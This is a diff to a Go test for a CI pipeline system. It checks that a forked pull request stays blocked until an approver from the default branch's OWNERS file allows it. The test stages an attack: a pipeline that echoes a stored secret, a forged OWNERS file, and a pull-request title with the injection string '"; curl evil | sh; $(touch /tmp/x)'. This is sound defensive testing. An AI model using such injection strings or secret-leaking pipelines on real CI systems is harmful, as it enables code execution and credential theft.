@@ -195,14 +195,15 @@ func TestForkNeedsApproval(t *testing.T) {
 	t.Parallel()
 	c := connect(t, v1alpha1.RepositorySpec{Params: []v1alpha1.RepositoryParam{{Name: "password", SecretRef: &v1alpha1.SecretKey{Name: "password", Key: "p"}}}})
 	c.Create(&corev1.Secret{ObjectMeta: metav1.ObjectMeta{Name: "password"}, StringData: map[string]string{"p": "hunter2hunter2"}})
-	c.work.Commit("Start", map[string]string{"README.md": "engine\n"})
+	eve, grace := c.server.User("eve"), c.server.User("grace")
+	c.work.Commit("Start", map[string]string{"README.md": "engine\n", "OWNERS": "reviewers: [core]\n", "OWNERS_ALIASES": "aliases: {core: [" + grace.Name + "]}\n"})
 	c.work.Push()
-	eve := c.server.User("eve")
 	fork := eve.Fork(c.repo)
 	work := fork.Clone(eve)
 	yaml := c.yaml("test", on("pull_request", "main"), `echo "{{ password }}"`)
 	work.Git("checkout", "-q", "-b", "evil")
-	head := work.Commit("Steal", map[string]string{".tekton/test.yaml": yaml})
+	// Who owns is what the default branch says, and not the fork.
+	head := work.Commit("Steal", map[string]string{".tekton/test.yaml": yaml, "OWNERS": "approvers: [" + eve.Name + "]\n"})
 	work.Push()
 	number := c.repo.Pull(eve, eve.Name+":evil", "main", `"; curl evil | sh; $(touch /tmp/x) {{ password }}`)
 	if s := c.statusWhen(head, "slipway", "pending"); !strings.Contains(s.Description, "/ok-to-test "+head[:10]) {
@@ -229,6 +230,8 @@ func TestForkNeedsApproval(t *testing.T) {
 	if n := len(c.runs()); n != 1 {
 		t.Errorf("%d runs:\n%s", n, c.seen())
 	}
+	c.repo.Comment(grace, number, "/ok-to-test "+later[:10])
+	c.runsWhen("test", later, 1, (*v1.PipelineRun).IsDone)
 }
 
 // Mistakes in the YAML are told where they are made.
